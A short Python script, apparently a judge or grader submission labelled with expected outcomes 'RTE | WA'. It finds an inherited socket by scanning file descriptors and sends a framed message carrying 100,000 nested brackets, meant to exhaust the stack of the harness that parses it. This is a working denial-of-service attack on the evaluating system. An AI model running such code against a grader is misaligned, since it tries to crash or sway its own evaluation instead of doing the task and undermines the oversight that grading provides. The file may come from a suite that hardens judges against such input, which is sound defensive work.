# outcome: RTE | WA
# tries: send a tree that exhausts the stack of its reader
import os
import stat
import struct


def job_socket():
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            continue
    raise LookupError("no socket")


tree = b"[" * 100_000 + b"]" * 100_000
os.write(job_socket(), struct.pack("<2scBIIQ", b"TS", b"L", 1, len(tree), 0, 0) + tree)
